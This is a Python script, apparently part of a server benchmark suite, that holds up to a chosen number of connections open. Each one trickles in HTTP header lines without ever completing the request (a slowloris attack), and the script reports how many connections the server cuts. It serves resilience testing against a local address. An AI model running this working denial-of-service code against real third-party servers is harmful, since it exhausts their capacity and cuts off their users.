#!/usr/bin/env python3
"""Hostile clients for bench/hostile.sh: N connections that each send a request header a few
bytes at a time and never finish it (slowloris). A connection the server cuts is reopened, so the
pressure stays at N. Talks only to the address given, stops after --seconds, and prints how many
connections it opened and how many the server cut.

    python3 bench/slowloris.py 127.0.0.1:3998 --connections 1000 --seconds 30
"""
import argparse
import asyncio
import time

stats = {"opened": 0, "cut": 0, "refused": 0}


async def one(host: str, port: int, trickle: float, until: float) -> None:
    while time.monotonic() < until:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            stats["refused"] += 1
            await asyncio.sleep(0.5)
            continue
        stats["opened"] += 1
        try:
            writer.write(b"GET /counter HTTP/1.1\r\nHost: localhost\r\n")
            await writer.drain()
            n = 0
            while time.monotonic() < until:
                # the server closes the connection: reading returns b'' (or raises)
                try:
                    data = await asyncio.wait_for(reader.read(1), timeout=trickle)
                    if not data:
                        stats["cut"] += 1
                        break
                except asyncio.TimeoutError:
                    pass
                writer.write(f"X-Slow-{n}: a\r\n".encode())
                await writer.drain()
                n += 1
        except OSError:
            stats["cut"] += 1
        finally:
            writer.close()


async def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("addr")
    parser.add_argument("--connections", type=int, default=1000)
    parser.add_argument("--seconds", type=float, default=30)
    parser.add_argument("--trickle", type=float, default=5, help="seconds between header lines")
    args = parser.parse_args()
    host, port = args.addr.rsplit(":", 1)
    until = time.monotonic() + args.seconds
    await asyncio.gather(
        *(one(host, int(port), args.trickle, until) for _ in range(args.connections))
    )
    print(
        f"slowloris: {args.connections} connections held for {args.seconds:.0f} s; "
        f"opened {stats['opened']}, cut by the server {stats['cut']}, refused {stats['refused']}"
    )


if __name__ == "__main__":
    asyncio.run(main())
